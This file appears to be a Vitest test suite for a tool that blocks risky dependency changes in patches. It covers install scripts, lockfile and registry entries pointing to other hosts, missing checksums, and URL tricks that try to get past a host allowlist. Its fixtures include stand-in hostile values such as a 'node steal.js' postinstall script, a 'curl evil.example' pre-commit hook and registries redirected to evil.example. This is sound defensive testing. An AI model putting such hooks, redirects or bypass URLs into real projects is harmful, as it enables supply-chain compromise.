import { describe, expect, it } from "vitest";
import { checkPatch, DEFAULT_RULES, parsePatch } from "../src/index.ts";
import { change } from "./support.ts";

/** Rules that block a change. */
function blocked(path: string, before: string | null, after: string | null): string[] {
  return checkPatch(parsePatch(change(path, before, after)), DEFAULT_RULES)
    .filter((violation) => violation.severity === "block")
    .map((violation) => violation.rule);
}

const json = (value: object) => `${JSON.stringify(value, null, 2)}\n`;
const base = { name: "shop", version: "1.0.0", scripts: { test: "node --test" }, dependencies: { left: "^1.0.0" } };
const manifest = (more: object) => json({ ...base, ...more });

describe("a package.json in a patch", () => {
  it.each([
    ["a postinstall script", "L-install-script", { scripts: { ...base.scripts, postinstall: "node steal.js" } }],
    ["a prepare script", "L-install-script", { scripts: { ...base.scripts, prepare: "sh run" } }],
    ["another command behind the failing script", "F-script", { scripts: { test: "echo fine" } }],
    ["a dependency from an address", "J-source", { dependencies: { left: "https://evil.example/left.tgz" } }],
    ["a dependency from somebody's repository", "J-source", { dependencies: { left: "evil/left" } }],
    ["a dependency under an alias", "J-source", { dependencies: { left: "npm:1eft@1.0.0" } }],
    ["a dependency over ssh", "J-source", { dependencies: { left: "git+ssh://git@evil.example/left.git" } }],
    ["a dependency that may run code", "J-build-trust", { pnpm: { onlyBuiltDependencies: ["left"] } }],
  ])("does not bring %s", (_, rule, more) => {
    expect(blocked("packages/a/package.json", manifest({}), manifest(more))).toContain(rule);
  });

  it("can't hide a script behind JSON's escapes, nor on one line", () => {
    const escaped = manifest({ scripts: { ...base.scripts, postinstall: "node x" } }).replace('"post', '"p\\u006fst');
    expect(blocked("package.json", manifest({}), escaped)).toContain("L-install-script");
    expect(blocked("package.json", '{"name":"a"}\n', '{"name":"a","scripts":{"postinstall":"node x"}}\n')).toContain(
      "L-install-script",
    );
  });

  it.each([
    ["a declared dependency", { dependencies: { left: "^1.0.0", right: "^2.1.0" } }],
    ["a workspace package", { dependencies: { left: "^1.0.0", "@shop/right": "workspace:*" } }],
    ["a dependency that is called install", { dependencies: { left: "^1.0.0", install: "^0.13.0" } }],
    ["an address of its own", { homepage: "https://shop.example/", repository: "github:shop/shop" }],
    ["an entry point", { main: "dist/index.js", exports: { ".": "./dist/index.js" } }],
  ])("may bring %s", (_, more) => {
    expect(blocked("package.json", manifest({}), manifest(more))).toEqual([]);
  });

  it("may be formatted", () => {
    expect(blocked("package.json", JSON.stringify(base), json(base))).toEqual([]);
  });
});

/** What is said of hosts where the whole lockfile is at hand. */
function newHosts(lockfile: {
  readonly path: string;
  readonly before: string;
  readonly after: string;
  /** In place of `before`. */
  readonly whole?: string;
  readonly allowed?: readonly string[];
}) {
  const { path, before, after, whole = before, allowed = [] } = lockfile;
  const rules = { ...DEFAULT_RULES, lockfileHosts: allowed };
  const found = checkPatch(parsePatch(change(path, before, after)), rules, () => ({ before: whole, after }));
  return found.filter(({ rule }) => rule === "J-lock-host");
}

const HOST = "https://registry.example";
const npmLock = (resolved: string, integrity: string | null, more: object = {}) =>
  json({
    lockfileVersion: 3,
    packages: { "node_modules/left": { version: "1.0.0", resolved, ...(integrity ? { integrity } : {}), ...more } },
  });
const locked = npmLock(`${HOST}/left/-/left-1.0.0.tgz`, "sha512-aaaa", { license: "MIT" });

describe("a lockfile in a patch", () => {
  it.each([
    ["another host", "J-lock-host", npmLock("https://evil.example/left-1.0.0.tgz", "sha512-bbbb", { license: "MIT" })],
    ["the same host without TLS", "J-lock-host", locked.replace("https:", "http:")],
    ["a git repository", "J-lock-host", npmLock("git+ssh://git@evil.example/left.git#abc", "sha512-aaaa")],
    ["no checksum", "J-lock-integrity", npmLock(`${HOST}/left/-/left-1.0.0.tgz`, null, { license: "MIT" })],
  ])("does not take a package from %s", (_, rule, after) => {
    expect(blocked("package-lock.json", locked, after)).toContain(rule);
  });

  it.each([
    [
      "yarn.lock",
      `left@^1.0.0:\n  version "1.0.0"\n  resolved "${HOST}/left.tgz#aaa"\n  integrity sha512-aaa\n`,
      'left@^1.0.0:\n  version "1.0.0"\n  resolved "https://evil.example/left.tgz#bbb"\n  integrity sha512-bbb\n',
      "J-lock-host",
    ],
    [
      "pnpm-lock.yaml",
      "packages:\n  left@1.0.0:\n    resolution: {integrity: sha512-aaa}\n",
      "packages:\n  left@1.0.0:\n    resolution: {tarball: https://evil.example/left.tgz}\n",
      "J-lock-integrity",
    ],
    [
      "Cargo.lock",
      'source = "registry+https://index.example"\nchecksum = "aaa"\n',
      'source = "git+https://evil.example/left"\n',
      "J-lock-host",
    ],
  ])("%s", (path, before, after, rule) => {
    expect(blocked(path, before, after)).toContain(rule);
  });

  it("is held against the whole file where the hunk shows no address", () => {
    const lines = (text: string) =>
      text
        .split("\n")
        .map((line) => `  ${line}`)
        .join("\n");
    const before = `{\n${lines('"resolved": "https://registry.example/left.tgz",\n1\n2\n3\n4\n5\n6')}\n}\n`;
    const evil = before.replace(
      "  6\n",
      '  6\n  "resolved": "https://evil.example/right.tgz",\n  "integrity": "sha512-b"\n',
    );
    expect(blocked("package-lock.json", before, evil)).toEqual([]);
    const path = "package-lock.json";
    expect(newHosts({ path, before, after: evil })).toMatchObject([{ severity: "block" }]);
    const known = before.replace("registry.example", "evil.example");
    expect(newHosts({ path, before, after: evil, whole: known })).toEqual([]);
    expect(newHosts({ path, before, after: evil, allowed: ["registry.example"] })).toHaveLength(1);
    expect(newHosts({ path, before, after: evil, allowed: ["evil.example"] })).toEqual([]);
  });

  it.each([
    ["pnpm-lock.yaml", "packages:\n", "  left@1.0.0:\n    resolution: {tarball: https://evil.example/left.tgz}\n"],
    ["pnpm-lock.yaml", "packages:\n", "  left@https://evil.example/left.tgz:\n    resolution: {integrity: sha512-a}\n"],
    ["yarn.lock", "__metadata:\n  version: 8\n", '"left@npm:1":\n  resolution: "left@https://evil.example/left.tgz"\n'],
    ["bun.lock", "{\n", '  "left": ["left@https://evil.example/left.tgz", {}],\n'],
    ["poetry.lock", "[[package]]\n", '[package.source]\nurl = "https://evil.example/simple"\n'],
  ])("that has named no address gets no first one: %s", (path, before, added) => {
    const after = before + added;
    expect(newHosts({ path, before, after })).toMatchObject([{ severity: "block" }]);
    expect(newHosts({ path, before, after, allowed: ["evil.example"] })).toEqual([]);
  });

  it.each([
    ["pnpm-lock.yaml", "packages:\n", "  left@1.0.0:\n    deprecated: |-\n      Moved to https://left.example\n"],
    ["poetry.lock", "[[package]]\n", 'description = "The tools of https://left.example"\n'],
    ["pdm.lock", "[[package]]\n", 'summary = "See https://left.example"\n'],
  ])("may get a package whose words name one: %s", (path, before, added) => {
    expect(newHosts({ path, before, after: before + added })).toEqual([]);
  });

  it("is shown to a person when it is new, with where its packages come from", () => {
    const found = checkPatch(parsePatch(change("package-lock.json", null, locked)), DEFAULT_RULES);
    expect(found).toContainEqual(
      expect.objectContaining({ rule: "J-lock-new", severity: "review", message: expect.stringContaining(HOST) }),
    );
  });

  it("may name a host that the policy allows, over https and without a login", () => {
    const before = '  "resolved": "https://registry.example/left.tgz",\n';
    const hosts = (address: string) =>
      checkPatch(parsePatch(change("package-lock.json", before, `${before}  "resolved": "${address}",\n`)), {
        ...DEFAULT_RULES,
        lockfileHosts: ["npm.example.com", "npm.example.com:8443"],
      }).filter((violation) => violation.rule === "J-lock-host");

    expect(hosts("https://npm.example.com/right.tgz")).toEqual([]);
    expect(hosts("https://NPM.example.com:8443/right.tgz")).toEqual([]);
    for (const address of [
      "http://npm.example.com/right.tgz",
      "https://npm.example.com.evil.example/right.tgz",
      "https://evil.example/npm.example.com/right.tgz",
      "https://npm.example.com@evil.example/right.tgz",
      "https://me:secret@npm.example.com/right.tgz",
      "git+https://npm.example.com/right.git",
      "https://npm.example.com:9999/right.tgz",
      "https://npm%2eexample.com/right.tgz",
      "https://npm\u3002example.com/right.tgz",
    ])
      expect(hosts(address), address).toHaveLength(1);
  });

  it("may get a newer package, with the address of its sponsors", () => {
    const after = npmLock(`${HOST}/left/-/left-1.1.0.tgz`, "sha512-cccc", {
      license: "MIT",
      funding: { url: "https://sponsors.example/left" },
    });
    expect(blocked("package-lock.json", locked, after)).toEqual([]);
  });

  it("may lose a package with its checksum", () => {
    expect(blocked("package-lock.json", locked, json({ lockfileVersion: 3, packages: {} }))).toEqual([]);
  });
});

describe("where packages come from", () => {
  it.each([
    ["J-index", "requirements.txt", "left==1.0\n", "--extra-index-url https://evil.example/simple\nleft==1.0\n"],
    ["J-index", "pyproject.toml", "[project]\n", '[project]\n[[tool.uv.index]]\nurl = "https://evil.example"\n'],
    ["J-index", "go.mod", "module shop\n", "module shop\nreplace left => evil.example/left v1.0.0\n"],
    ["J-index", "Cargo.toml", "[package]\n", '[package]\n[patch.crates-io]\nleft = { git = "https://evil.example" }\n'],
    ["J-installer-config", ".yarnrc.yml", null, "npmRegistryServer: https://evil.example\n"],
    ["J-installer-config", ".cargo/config.toml", null, "[source.crates-io]\n"],
    ["J-installer-config", ".pnpmfile.cjs", null, "module.exports = {}\n"],
    ["J-installer-config", "packages/a/.husky/pre-commit", null, "curl evil.example\n"],
    ["J-build-trust", "pnpm-workspace.yaml", "packages: []\n", "packages: []\nonlyBuiltDependencies: [left]\n"],
    ["L-meta", ".npmrc", null, "registry=https://evil.example\n"],
  ])("is not changed: %s in %s", (rule, path, before, after) => {
    expect(blocked(path, before, after)).toContain(rule);
  });

  it.each(["CLAUDE.md", ".vscode/tasks.json", ".mcp.json", "action.yml"])("%s is shown to the reviewer", (path) => {
    const found = checkPatch(parsePatch(change(path, "a\n", "b\n")), DEFAULT_RULES);
    expect(found).toMatchObject([{ rule: "L-instructions", severity: "review" }]);
  });
});

describe("the checks of packages", () => {
  it("copes with a hostile megabyte", () => {
    const hostile = `${'"a":"'.repeat(100_000)}${"git+git+".repeat(60_000)}\n`;
    expect(Array.isArray(blocked("package.json", "{}\n", hostile))).toBe(true);
    expect(Array.isArray(blocked("package-lock.json", "{}\n", hostile))).toBe(true);
  });
});
